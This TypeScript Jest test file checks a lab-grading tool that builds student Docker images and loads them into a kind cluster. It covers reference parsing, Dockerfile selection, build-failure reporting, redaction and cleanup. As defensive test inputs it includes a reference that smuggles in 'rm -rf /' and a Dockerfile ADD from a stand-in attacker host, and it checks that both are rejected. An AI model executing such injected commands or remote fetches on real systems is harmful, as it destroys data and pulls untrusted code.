/**
 * Student images (src/images.ts): which Dockerfile builds which image, what
 * a failed build says, and the cluster stage building, loading and removing
 * an image against a scripted runner. The real Docker engine is in
 * images.real.test.ts.
 */
import { describe, expect, it } from '@jest/globals';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { NotGradableError, silentLogger, type ConfiguredCheck, type RepoEntry } from '@labgrader/core';
import {
  clusterSettingsSchema,
  createKindClusterPool,
  prepareCluster,
  resolveClusterConfig,
  type KindConfig,
} from '../src/index.js';
import {
  normalizeReference,
  parseBuildFailure,
  parseReference,
  planBuilds,
  refuseDockerfile,
  stepImages,
} from '../src/images.js';
import { EXAMPLES, FakeClock, FakeRunner, repoOf, stageInput, type Call } from './helpers/fake.js';
import { scriptKindCluster } from './helpers/scripted-cluster.js';
import { scriptRotationDrills } from './helpers/scripted-drills.js';

const files = (...paths: string[]): RepoEntry[] => paths.map((p) => ({ path: p, kind: 'file', size: 10 }));
const defaults = { build: [], buildMissing: true };

describe('image references', () => {
  it('are normalized the way containerd names them', () => {
    expect(normalizeReference('redis')).toBe('docker.io/library/redis:latest');
    expect(normalizeReference('redis:7')).toBe('docker.io/library/redis:7');
    expect(normalizeReference('me/web:1')).toBe('docker.io/me/web:1');
    expect(normalizeReference('ghcr.io/me/lab85-web:1.0.0')).toBe('ghcr.io/me/lab85-web:1.0.0');
    expect(normalizeReference('localhost:5000/web')).toBe('localhost:5000/web:latest');
    expect(normalizeReference('labgrader-build/0a1b2c-0:latest')).toBe('docker.io/labgrader-build/0a1b2c-0:latest');
    expect(parseReference(`web@sha256:${'a'.repeat(64)}`)).toEqual({
      domain: 'docker.io',
      path: 'library/web',
      digest: `sha256:${'a'.repeat(64)}`,
    });
    expect(parseReference('Web:1')).toBeUndefined();
    expect(parseReference('web:1; rm -rf /')).toBeUndefined();
  });
});

describe('which Dockerfile builds which image', () => {
  it('takes the directory named after the image, else the root or only Dockerfile, never for official images', () => {
    const plan = planBuilds(
      ['ghcr.io/me/api:1', 'ghcr.io/me/web:1', 'redis:7'],
      files('api/Dockerfile', 'services/web/Dockerfile', 'README.md'),
      defaults,
    );
    expect(plan.builds).toEqual([
      {
        image: 'ghcr.io/me/api:1',
        context: 'api',
        dockerfile: 'api/Dockerfile',
        rule: 'a directory named after the image (api/)',
      },
      {
        image: 'ghcr.io/me/web:1',
        context: 'services/web',
        dockerfile: 'services/web/Dockerfile',
        rule: 'a directory named after the image (web/)',
      },
    ]);
    expect(plan.skipped).toEqual([
      {
        image: 'redis:7',
        why: "a Docker Hub official image is not matched to the repository's Dockerfile (a directory redis/ or images.build would be)",
      },
    ]);

    // The lab-85 layout: one image, its Dockerfile under app/.
    expect(planBuilds(['ghcr.io/me/lab85-web:1'], files('app/Dockerfile', 'k8s/d.yaml'), defaults).builds).toEqual([
      {
        image: 'ghcr.io/me/lab85-web:1',
        context: 'app',
        dockerfile: 'app/Dockerfile',
        rule: "the repository's only Dockerfile",
      },
    ]);
    // A root Dockerfile wins over others for the one image left.
    expect(
      planBuilds(['me/site:2', 'redis'], files('Dockerfile', 'tools/Dockerfile'), defaults).builds.map(
        (b) => b.dockerfile,
      ),
    ).toEqual(['Dockerfile']);
    // Hidden directories, node_modules and vendor are not searched; symlinks are not Dockerfiles.
    expect(
      planBuilds(
        ['me/web:1'],
        [
          ...files('.devcontainer/Dockerfile', 'node_modules/x/Dockerfile', 'vendor/y/Dockerfile'),
          { path: 'Dockerfile', kind: 'symlink-outside', size: 0 },
        ],
        defaults,
      ),
    ).toEqual({ builds: [], skipped: [{ image: 'me/web:1', why: 'the repository has no Dockerfile' }] });
  });

  it('says why an image is not built when the rule is ambiguous, or it is pinned by digest', () => {
    const plan = planBuilds(
      ['me/a:1', 'me/b:1', `me/c@sha256:${'f'.repeat(64)}`],
      files('x/Dockerfile', 'y/Dockerfile'),
      defaults,
    );
    expect(plan.builds).toEqual([]);
    expect(plan.skipped.map((s) => [s.image, s.why])).toEqual([
      [`me/c@sha256:${'f'.repeat(64)}`, 'pinned by digest: no build reproduces a digest'],
      [
        'me/a:1',
        'several images have no Dockerfile of their own (me/a:1, me/b:1): name a directory after each image, or set images.build',
      ],
      [
        'me/b:1',
        'several images have no Dockerfile of their own (me/a:1, me/b:1): name a directory after each image, or set images.build',
      ],
    ]);
    expect(planBuilds(['me/a:1'], files('x/Dockerfile', 'y/Dockerfile'), defaults).skipped[0]?.why).toBe(
      'no Dockerfile at the root and several elsewhere (x/Dockerfile, y/Dockerfile): name a directory after the image, or set images.build',
    );
    expect(planBuilds(['me/a:1'], files('Dockerfile'), { build: [], buildMissing: false }).skipped[0]?.why).toBe(
      'building is turned off (images.buildMissing: false)',
    );
  });

  it('follows images.build, and refuses entries that point outside the repository or at nothing', () => {
    const entries = files('docker/web.Dockerfile', 'src/main.go');
    expect(
      planBuilds(['me/web:1'], entries, {
        buildMissing: true,
        build: [{ image: 'me/web:1', context: 'src', dockerfile: 'docker/web.Dockerfile' }],
      }).builds,
    ).toEqual([{ image: 'me/web:1', context: 'src', dockerfile: 'docker/web.Dockerfile', rule: 'images.build' }]);
    for (const [entry, message] of [
      [{ context: '../..' }, 'points outside the repository'],
      [{ context: 'src' }, 'names src/Dockerfile, which is not a file of the repository'],
      [{ context: 'nowhere', dockerfile: 'docker/web.Dockerfile' }, 'names the build context nowhere/'],
    ] as const) {
      let thrown: unknown;
      try {
        planBuilds(['me/web:1'], entries, { buildMissing: true, build: [{ image: 'me/web:1', ...entry }] });
      } catch (err) {
        thrown = err;
      }
      expect(thrown).toBeInstanceOf(NotGradableError);
      expect((thrown as NotGradableError).reason).toBe('image-build-failed');
      expect((thrown as Error).message).toContain(message);
    }
  });
});

describe('Dockerfiles refused before the build', () => {
  it('refuses ADD of a URL without network (the engine fetches it outside the sandbox)', () => {
    expect(refuseDockerfile('FROM scratch\nADD https://evil.example/x /x\n', 'none')).toBe(
      'ADD https://evil.example/x (line 2) downloads during the build, which runs without network; commit the file and COPY it instead',
    );
    expect(refuseDockerfile('FROM scratch\nADD --chmod=755 \\\n  git@github.com:me/x.git /x\n', 'none')).toContain(
      'ADD git@github.com:me/x.git',
    );
    expect(refuseDockerfile('FROM scratch\nADD web.tar.gz /\n', 'none')).toBeUndefined();
    expect(refuseDockerfile('FROM scratch\nADD https://example.com/x /x\n', 'default')).toBeUndefined();
  });
});

// What the real engine printed (docker 28.2.2 CLI, engine 20.10.24, classic builder), in images.real.test.ts's builds.
const LEGACY_RUN_FAILED = {
  stdout: [
    'Sending build context to Docker daemon  2.18MB',
    'Step 1/3 : FROM scratch',
    ' ---> ',
    'Step 2/3 : COPY hello /hello',
    ' ---> 97fbe1f701cd',
    'Step 3/3 : RUN ["/hello","net"]',
    ' ---> Running in 37552eef1b0f',
    'no network: dial tcp 172.17.0.1:2375: connect: network is unreachable',
    'Removing intermediate container 37552eef1b0f',
    '',
  ].join('\n'),
  stderr: [
    'DEPRECATED: The legacy builder is deprecated and will be removed in a future release.',
    '            Install the buildx component to build images with BuildKit:',
    '            https://docs.docker.com/go/buildx/',
    '            BuildKit is currently disabled; enable it by removing the DOCKER_BUILDKIT=0',
    '            environment-variable.',
    '',
    "The command '/hello net' returned a non-zero code: 3",
    '',
  ].join('\n'),
};
const LEGACY_FROM_FAILED = {
  stdout: 'Sending build context to Docker daemon  2.181MB\nStep 1/2 : FROM golang:1.22 AS build\n',
  stderr:
    'DEPRECATED: The legacy builder is deprecated and will be removed in a future release.\n\nGet "https://registry-1.docker.io/v2/": dial tcp: lookup registry-1.docker.io on 10.255.255.53:53: no such host\n',
};

describe('a failed build, as the report says it', () => {
  it('names the failing step, the engine message and the step output (classic builder)', () => {
    expect(parseBuildFailure(LEGACY_RUN_FAILED.stdout, LEGACY_RUN_FAILED.stderr, 'legacy')).toEqual({
      step: 'Step 3/3 : RUN ["/hello","net"]',
      message: "The command '/hello net' returned a non-zero code: 3",
      output: ['no network: dial tcp 172.17.0.1:2375: connect: network is unreachable'],
      fromFailed: false,
    });
    expect(parseBuildFailure(LEGACY_FROM_FAILED.stdout, LEGACY_FROM_FAILED.stderr, 'legacy')).toEqual({
      step: 'Step 1/2 : FROM golang:1.22 AS build',
      message:
        'Get "https://registry-1.docker.io/v2/": dial tcp: lookup registry-1.docker.io on 10.255.255.53:53: no such host',
      output: [],
      fromFailed: true,
    });
  });

  it("knows which images a classic build's steps made, never the base images its FROM steps name", () => {
    const stdout = [
      'Step 1/8 : FROM labgrader-examples/go-toolchain:1.26.8 AS build',
      ' ---> 4351826228ad',
      'Step 2/8 : COPY go.mod main.go ./',
      ' ---> 8dc32d0c729a',
      'Step 3/8 : RUN ["go", "build", "-o", "/out/web", "."]',
      ' ---> Running in 1c0ffee0babe',
      'Removing intermediate container 1c0ffee0babe',
      ' ---> f7ee003f5cc8',
      'Step 4/8 : FROM scratch',
      ' ---> ',
      'Step 5/8 : COPY --from=build /out/web /web',
      ' ---> bbc25aa4a76f',
    ].join('\n');
    expect(stepImages(stdout)).toEqual(['8dc32d0c729a', 'f7ee003f5cc8', 'bbc25aa4a76f']);
  });

  it('reads BuildKit plain progress too (not run for real here: this engine has no buildx)', () => {
    const stderr = [
      '#1 [internal] load build definition from Dockerfile',
      '#1 DONE 0.0s',
      '#5 [build 2/3] RUN go build -o /out/web .',
      '#5 0.412 main.go:3:2: undefined: fmt.Printx',
      '#5 ERROR: process "/bin/sh -c go build -o /out/web ." did not complete successfully: exit code: 1',
      '------',
      ' > [build 2/3] RUN go build -o /out/web .:',
      '------',
      'ERROR: failed to solve: process "/bin/sh -c go build -o /out/web ." did not complete successfully: exit code: 1',
    ].join('\n');
    expect(parseBuildFailure('', stderr, 'buildkit')).toEqual({
      step: '[build 2/3] RUN go build -o /out/web .',
      message: 'process "/bin/sh -c go build -o /out/web ." did not complete successfully: exit code: 1',
      output: ['main.go:3:2: undefined: fmt.Printx'],
      fromFailed: false,
    });
  });
});

// ---------------------------------------------------------------- the stage

const ENV = {
  LABGRADER_KIND: '/opt/kind/bin/kind',
  LABGRADER_KUBECTL: '/opt/k8s/kubectl',
  LABGRADER_KIND_NODE_IMAGE: 'labgrader/kind-node:v1.34.4',
};
const IMAGE = 'ghcr.io/labgrader-examples/lab85-web:1.0.0';

/** The passing lab, with its image missing from the local daemon: app/Dockerfile is the one that builds it. */
function setup(
  build: Partial<Call['options']> & { exitCode?: number; stdout?: string; stderr?: string; timedOut?: boolean } = {},
  size = 8_000_000,
) {
  const dir = mkdtempSync(path.join(tmpdir(), 'labgrader-images-'));
  cpSync(path.join(EXAMPLES, 'lab-85-passing'), dir, { recursive: true });
  const clock = new FakeClock();
  const runner = new FakeRunner(clock);
  runner.commandMs = 0;
  const cluster = scriptKindCluster(runner, clock, {
    replicas: 3,
    readyAfterMs: 4_000,
    podKill: { readyAfterMs: 1_800, goneAfterMs: 3_000 },
    containerKill: { readyAfterMs: 2_300 },
    rollout: { minReady: 2, undoReadyAfterMs: 1_200 },
    probeOutputs: [],
  });
  scriptRotationDrills(runner, clock, cluster);
  runner
    .on(`docker image inspect --format {{.Id}} ${IMAGE}`, { exitCode: 1, stderr: `Error: No such image: ${IMAGE}` })
    .on(/^docker buildx version$/, { exitCode: 1, stderr: "docker: 'buildx' is not a docker command." })
    .on(/^docker build /, { exitCode: 0, stdout: 'Successfully built 1234abcd\n', stderr: '', ...build })
    .on(/^docker image inspect --format \{\{\.Size\}\} labgrader-build\//, { stdout: `${size}\n` })
    .on(/^docker exec \S+ ctr --namespace=k8s\.io images (tag|rm) /, { stdout: '' })
    // What a warm cluster's node holds under a name (nothing: this test's images are built per job).
    .on(/^docker exec \S+ ctr -n k8s\.io images ls name==/, { stdout: 'REF TYPE DIGEST SIZE PLATFORMS LABELS\n' })
    .on(/^docker image rm /, { stdout: 'Untagged\n' });
  let n = 0;
  const deps = {
    env: ENV,
    clock,
    sleep: clock.sleep,
    randomBytes: (k: number) => new Uint8Array(k).map(() => (n++ * 37 + 11) % 256),
  };
  return { dir, runner, deps, done: () => rmSync(dir, { recursive: true, force: true }) };
}

/** Only the pod-kill drill: enough to see the built image serve, and quick. */
const SETTINGS = { drills: { containerKill: { run: 'never' }, badRollout: { run: 'never' } } };
const CHECKS: ConfiguredCheck[] = [{ id: 'cluster/deploys-ready', options: {} }];

describe('the cluster stage with a missing image and a Dockerfile (scripted runner)', () => {
  it('builds it without network or cache, loads it under the manifest name, reports it, and removes it', async () => {
    const { dir, runner, deps, done } = setup();
    try {
      const prep = await prepareCluster(stageInput(await repoOf(dir), runner, SETTINGS, { checks: CHECKS }), deps);
      const lines = runner.lines();
      const name = /--name (labgrader-[0-9a-f]{6})/.exec(lines.join('\n'))![1]!;
      const job = name.replace('labgrader-', '');
      const tag = `labgrader-build/${job}-0:latest`;
      const build = runner.calls.find((c) => c.args[0] === 'build')!;
      expect(build.args).toEqual([
        'build',
        '--force-rm',
        '--no-cache',
        '--network',
        'none',
        '--label',
        'labgrader.built-by=labgrader',
        '--label',
        `labgrader.job=${job}`,
        '--tag',
        tag,
        '--file',
        path.join(dir, 'app/Dockerfile'),
        path.join(dir, 'app'),
      ]);
      expect(build.options.env).toEqual({ DOCKER_BUILDKIT: '0' });
      expect(build.options.timeoutMs).toBe(180_000);
      // Never tagged with the manifest's name on the host (another job may build the same name); in the node, yes.
      expect(lines.filter((l) => l.includes(IMAGE) && l.startsWith('docker') && !l.includes('ctr'))).toEqual([
        `docker image inspect --format {{.Id}} ${IMAGE}`,
      ]);
      const order = [
        `docker build `,
        `kind load docker-image ${tag} --name ${name}`,
        `docker exec ${name}-control-plane ctr --namespace=k8s.io images tag --force docker.io/${tag} ${IMAGE}`,
        `docker exec ${name}-control-plane ctr --namespace=k8s.io images rm ${IMAGE} docker.io/${tag}`,
        `docker image rm --force ${tag}`,
        `kind delete cluster --name ${name}`,
      ].map((prefix) => lines.findIndex((l) => l.startsWith(prefix)));
      expect(order.every((i) => i >= 0)).toBe(true);
      expect([...order].sort((a, b) => a - b)).toEqual(order);
      // The workload was applied after the image was in the cluster.
      const applied = lines.findIndex((l) => / --as=\S+ .*apply -f -$/.test(l) || /--as=\S+ .*create -f -$/.test(l));
      expect(applied).toBeGreaterThan(order[2]!);

      const ev = (label: string) => (prep.evidence ?? []).filter((e) => e.label === label).map((e) => e.detail);
      expect(ev('images')).toEqual([`built from the repository and loaded: ${IMAGE} (app/Dockerfile)`]);
      expect(ev('image-built')).toEqual([
        `${IMAGE}: built from app/Dockerfile (context app/; chosen by the repository's only Dockerfile) with the classic builder in 0.0 s, 7.6 MiB, without network, no build cache; loaded into the cluster as ${IMAGE}`,
      ]);
      expect(ev('images-removed')).toEqual([`removed the built image ${tag} from the Docker daemon and the nodes`]);
      expect(prep.context.deploy.workloads.every((w) => w.ready)).toBe(true);
    } finally {
      done();
    }
  });

  it('a built image the manifest would pull anyway (imagePullPolicy: Always) is applied IfNotPresent, said at its line', async () => {
    const { dir, runner, deps, done } = setup();
    try {
      const file = path.join(dir, 'k8s/deployment.yaml');
      const text = readFileSync(file, 'utf8');
      expect(text.split('\n')[44]).toBe('          imagePullPolicy: IfNotPresent');
      writeFileSync(file, text.replace('imagePullPolicy: IfNotPresent', 'imagePullPolicy: Always'));
      const prep = await prepareCluster(stageInput(await repoOf(dir), runner, SETTINGS, { checks: CHECKS }), deps);
      const changed = (prep.evidence ?? []).filter((e) => e.label === 'changed' && /imagePullPolicy/.test(e.detail));
      expect(changed.map((e) => [e.detail, `${e.location?.file}:${e.location?.line}`])).toEqual([
        [
          `Deployment lab85/web container web: imagePullPolicy set to IfNotPresent (was Always): labgrader put ${IMAGE} into the nodes, and a pull would ask a registry for it instead of running the one submitted`,
          'k8s/deployment.yaml:45',
        ],
      ]);
      const applied = runner.calls
        .filter((c) => c.args.includes('apply') || c.args.includes('create'))
        .map((c) => String(c.options.input ?? ''))
        .find((input) => input.includes('"kind":"Deployment"') || input.includes('kind: Deployment'));
      expect(applied).toBeDefined();
      expect(applied).toMatch(/imagePullPolicy"?:\s*"?IfNotPresent/);
      expect(applied).not.toMatch(/imagePullPolicy"?:\s*"?Always/);
    } finally {
      done();
    }
  });

  it('a failing step makes the submission not gradable, with the step and its message; the cluster still goes', async () => {
    const { dir, runner, deps, done } = setup({ exitCode: 1, ...LEGACY_RUN_FAILED });
    try {
      const err = await prepareCluster(stageInput(await repoOf(dir), runner, SETTINGS, { checks: CHECKS }), deps).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(err).toBeInstanceOf(NotGradableError);
      expect((err as NotGradableError).reason).toBe('image-build-failed');
      expect((err as Error).message).toBe(
        `building ${IMAGE} from app/Dockerfile failed in Step 3/3 : RUN ["/hello","net"]: The command '/hello net' returned a non-zero code: 3; its last output: no network: dial tcp 172.17.0.1:2375: connect: network is unreachable`,
      );
      expect((err as NotGradableError).hint).toContain('without network access');
      const lines = runner.lines();
      // The finished steps' images are removed; nothing was loaded or applied; the cluster is deleted.
      expect(lines).toContain('docker image rm 97fbe1f701cd');
      expect(lines.some((l) => l.startsWith('kind load'))).toBe(false);
      expect(lines.some((l) => l.startsWith('kind delete cluster'))).toBe(true);
    } finally {
      done();
    }
  });

  it('a base image that cannot be pulled, the time limit and the size limit are each said precisely', async () => {
    const cases: [Parameters<typeof setup>, RegExp][] = [
      [
        [{ exitCode: 1, ...LEGACY_FROM_FAILED }],
        /^ghcr\.io\/labgrader-examples\/lab85-web:1\.0\.0 cannot be built from app\/Dockerfile: its base image is not on the grading machine and could not be pulled in Step 1\/2 : FROM golang:1\.22 AS build: Get "https:\/\/registry-1\.docker\.io\/v2\/": dial tcp: lookup registry-1\.docker\.io .*no such host$/,
      ],
      [
        [
          {
            exitCode: 137,
            timedOut: true,
            stdout: 'Step 3/3 : RUN ["/hello","sleep"]\n ---> Running in 068a081c673c\n',
            stderr: '',
          },
        ],
        /^building .* from app\/Dockerfile took longer than the build time limit \(180 s\) and was stopped in Step 3\/3 : RUN \["\/hello","sleep"\]$/,
      ],
      [
        [{}, 2 * 1024 ** 3],
        /^the image built from app\/Dockerfile for .* is 2048\.0 MiB, more than the image size limit \(1024 MiB\)$/,
      ],
    ];
    for (const [args, message] of cases) {
      const { dir, runner, deps, done } = setup(...args);
      try {
        const err = await prepareCluster(
          stageInput(await repoOf(dir), runner, SETTINGS, { checks: CHECKS }),
          deps,
        ).then(
          () => undefined,
          (e: unknown) => e,
        );
        expect(err).toBeInstanceOf(NotGradableError);
        expect((err as NotGradableError).reason).toBe('image-build-failed');
        expect((err as Error).message).toMatch(message);
        // A build that finished but is too large is removed like any other.
        if (args[1])
          expect(runner.lines().some((l) => /^docker image rm --force labgrader-build\//.test(l))).toBe(true);
      } finally {
        done();
      }
    }
  });

  it('redacts and truncates what the build printed', async () => {
    const token = 'ghp_' + 'A'.repeat(36);
    const noisy = Array.from({ length: 50 }, (_, i) => `line ${i} ${'x'.repeat(300)}`).join('\n');
    const { dir, runner, deps, done } = setup({
      exitCode: 1,
      stdout: `Step 2/2 : RUN ./build.sh\n ---> Running in 1\n${noisy}\ntoken=${token}\n`,
      stderr: `The command '/bin/sh -c ./build.sh' returned a non-zero code: 2 ${token}`,
    });
    try {
      const err = (await prepareCluster(
        stageInput(await repoOf(dir), runner, SETTINGS, { checks: CHECKS }),
        deps,
      ).catch((e: unknown) => e)) as Error;
      expect(err.message).not.toContain(token);
      expect(err.message).not.toContain('line 40 ');
      expect(err.message).toContain('line 49 ');
      expect(err.message.length).toBeLessThan(2_400);
    } finally {
      done();
    }
  });

  it('in a warm cluster, the built image is removed and the cluster is not given to the next job', async () => {
    const { dir, runner, deps, done } = setup();
    try {
      runner
        .on(/ get --raw \/readyz/, { stdout: 'ok' })
        .on(/ get nodes -o json$/, {
          stdout: JSON.stringify({
            items: [
              {
                metadata: { name: 'n' },
                spec: { podCIDR: '10.244.0.0/24' },
                status: { conditions: [{ type: 'Ready', status: 'True' }] },
              },
            ],
          }),
        })
        .on(/ delete namespace /, { stdout: 'namespace deleted\n' })
        .on(/ get namespaces -l labgrader\.dev\/job( |=)/, { stdout: '' });
      const pool = createKindClusterPool({
        size: 1,
        maxJobsPerCluster: 10,
        runner,
        logger: silentLogger,
        clock: deps.clock,
        makeTempDir: async () => mkdtempSync(path.join(tmpdir(), 'labgrader-images-pool-')),
      });
      const config = resolveClusterConfig(clusterSettingsSchema.parse(SETTINGS), ENV);
      pool.prewarm(config as KindConfig);
      await pool.idle();
      const warm = /kind create cluster --name (labgrader-warm-[0-9a-f]{6})/.exec(runner.lines().join('\n'))![1]!;
      const prep = await prepareCluster(stageInput(await repoOf(dir), runner, SETTINGS, { checks: CHECKS }), {
        ...deps,
        clusterPool: pool,
      });
      expect(prep.evidence?.find((e) => e.label === 'cleanup')?.detail).toMatch(
        new RegExp(
          `^gave warm cluster ${warm} back after 1 job; it is deleted and replaced because it loaded an image built from the repository`,
        ),
      );
      await pool.idle();
      const lines = runner.lines();
      expect(lines.findIndex((l) => l.startsWith(`kind delete cluster --name ${warm}`))).toBeGreaterThan(
        lines.findIndex((l) => / ctr --namespace=k8s\.io images rm /.test(l)),
      );
      await pool.close();
    } finally {
      done();
    }
  });

  it('on an existing cluster, says that the image is not built (its nodes pull)', async () => {
    const { dir, runner, deps, done } = setup();
    try {
      writeFileSync(path.join(dir, 'marker'), '');
      const { StudentImages } = await import('../src/images.js');
      const images = new StudentImages({
        runner,
        transcript: { add: () => {}, now: () => 0 } as never,
        logger: (await import('@labgrader/core')).silentLogger,
        signal: new AbortController().signal,
        docker: 'docker',
        job: 'abc123',
        repo: await repoOf(dir),
        settings: {
          loadLocal: true,
          buildMissing: true,
          build: [],
          buildTimeoutSeconds: 180,
          maxImageSizeMiB: 1024,
          buildNetwork: 'none',
        },
      });
      const evidence = await images.provide({} as never, [IMAGE], false, () => {});
      expect(evidence.map((e) => e.detail)).toEqual([
        `not built: an existing cluster's nodes pull their images and labgrader cannot load images into them, so ${IMAGE} (app/Dockerfile) is pulled by the nodes, not built from the repository`,
      ]);
      expect(runner.calls).toEqual([]);
      void deps;
    } finally {
      done();
    }
  });
});
